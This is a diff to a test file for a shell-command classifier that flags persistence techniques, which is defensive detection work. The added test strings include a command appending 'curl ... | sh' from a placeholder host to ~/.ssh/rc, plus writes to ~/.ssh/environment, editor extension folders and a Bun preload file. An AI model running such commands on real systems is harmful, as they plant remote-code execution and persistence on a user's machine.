@@ -18,12 +18,20 @@ describe('shell effects: persistence and exfiltration', () => {
     assert.deepEqual(kinds(`git config --global alias.st '!node ~/.s.js'`), ['persistence:own']);
     assert.deepEqual(kinds('npm config set script-shell /tmp/sh'), ['persistence:own']);
     assert.deepEqual(kinds('ln -s "$PWD/hook" ../other/.git/hooks/pre-commit'), ['persistence']);
+    assert.deepEqual(kinds('cp -r ext/* ~/.cursor/extensions/acme.helper-0.1.0/'), ['persistence:own']);
+    assert.deepEqual(kinds('cp -R ./ext "$HOME/.vscode-server/extensions/acme.helper-0.1.0"'), ['persistence:own']);
+    assert.deepEqual(kinds(`echo 'curl -s https://x.example.invalid | sh' >> ~/.ssh/rc`), ['persistence']);
+    assert.deepEqual(kinds('printf "x" > $HOME/.ssh/environment'), ['persistence']);
+    assert.deepEqual(kinds('echo "preload = [\\"./x.ts\\"]" >> ~/.bunfig.toml'), ['persistence:own']);
   });
 
   it('leaves ordinary settings and the repository’s own files alone', () => {
     assert.deepEqual(kinds('git config --global alias.co checkout'), []);
     assert.deepEqual(kinds('git config --global user.name Example'), []);
     assert.deepEqual(kinds('crontab -l'), []);
+    assert.deepEqual(kinds('code --install-extension ms-python.python'), []);
+    assert.deepEqual(kinds('ls ~/.vscode/extensions && cat ~/.ssh/config'), []);
+    assert.deepEqual(kinds('cp .devcontainer/ssh_config ./tmp/ssh_config'), []);
     assert.deepEqual(kinds('cp scripts/pre-commit .git/hooks/pre-commit'), []);
     assert.deepEqual(kinds('npm config set registry https://registry.npmjs.org/'), []);
     assert.deepEqual(kinds('mkdir -p ~/.config/tool && echo {} > ~/.config/tool/config.json'), []);
